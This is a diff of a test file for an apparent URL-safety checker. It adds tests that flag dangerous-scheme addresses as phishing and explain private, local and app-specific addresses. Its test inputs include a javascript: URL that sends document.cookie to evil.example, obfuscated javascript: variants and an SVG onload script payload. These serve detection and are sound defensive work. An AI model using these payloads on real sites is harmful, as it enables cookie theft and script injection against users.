@@ -53,9 +53,9 @@ it('VALID-10 OPEN-03 OPEN-15 OPEN-21 says what a valid URL looks like, and count
     '',
     '   ',
     'not a url',
-    'localhost',
-    'ftp://example.com',
-    'javascript:alert(1)',
+    'call me: today',
+    'https://two..dots.example/',
+    '???',
     'http://',
     7,
     null,
@@ -67,6 +67,64 @@ it('VALID-10 OPEN-03 OPEN-15 OPEN-21 says what a valid URL looks like, and count
     ]);
   }
   expect(await database.db.select().from(guestUsage)).toEqual([]);
+});
+
+describe('an address that is no page on the public web', () => {
+  const judged = async (urls: readonly string[]) => {
+    const app = await startTestApp({ env: { GUEST_DAILY_LIMIT: '100' } });
+    const answers = await Promise.all(urls.map((url) => check(app, url)));
+    return answers.map((answer) => analysisSchema.parse(answer.json()));
+  };
+
+  it('is phishing where what it shows or runs is inside the address', async () => {
+    for (const { inputData, riskLevel, threats } of await judged([
+      'javascript:fetch("https://evil.example/"+document.cookie)',
+      ' JaVaScRiPt:alert(1)',
+      'java\nscript:alert(1)',
+      'vbscript:MsgBox("x")',
+      'data:text/html;base64,PGgxPlNpZ24gaW48L2gxPg==',
+      'data:image/svg+xml,<svg onload=alert(1)>',
+      'blob:https://example.com/6b1c1a3e-0000-4000-8000-000000000000',
+      'file:///C:/Users/Public/invoice.html',
+    ])) {
+      expect([inputData, riskLevel, threats[0]?.type]).toEqual([inputData, 'phishing', 'scheme-dangerous']);
+      expect(threats[0]?.description).toMatch(/This alone proves the deception\.$/);
+    }
+  });
+
+  it('is explained, and nothing vouches for it', async () => {
+    const expected = {
+      'localhost:3000/login': /leads to the computer that opens it/,
+      'http://[::1]/': /leads to the computer that opens it/,
+      'http://192.168.1.1:8080/login': /belongs to a private network/,
+      'http://[fe80::1]/': /belongs to a private network/,
+      'http://intranet/wiki': /belongs to a private network/,
+      'printer.local': /belongs to a private network/,
+      'mailto:help@example.com': /starts a message in your mail program/,
+      'tel:+1-555-0100': /calls the number/,
+      'sms:+15550100?body=YES': /starts a text message/,
+      'ftp://files.example.com/report.zip': /leads to a file server/,
+      'zoommtg://zoom.us/join?confno=123': /opens an app/,
+    };
+    for (const analysis of await judged(Object.keys(expected))) {
+      const what = expected[analysis.inputData as keyof typeof expected];
+      expect(analysis).toMatchObject({ riskScore: 0, explanation: { isConclusive: false } });
+      expect(analysis.recommendations[0]).toMatch(what);
+      expect(analysis.recommendations.join(' ')).not.toMatch(/You can open/);
+    }
+  });
+
+  it('is explained where a warning comes first, too', async () => {
+    const expected = {
+      'http://0x7f000001/': /leads to the computer that opens it/,
+      'http://[::ffff:192.168.0.1]/': /belongs to a private network/,
+      'http://abcdefghijklmnop.onion/': /in the Tor network only/,
+    };
+    for (const { inputData, riskLevel, recommendations } of await judged(Object.keys(expected))) {
+      expect(riskLevel).toBe('suspicious');
+      expect(recommendations[1]).toMatch(expected[inputData as keyof typeof expected]);
+    }
+  });
 });
 
 it('ignores fields that a caller may not set', async () => {
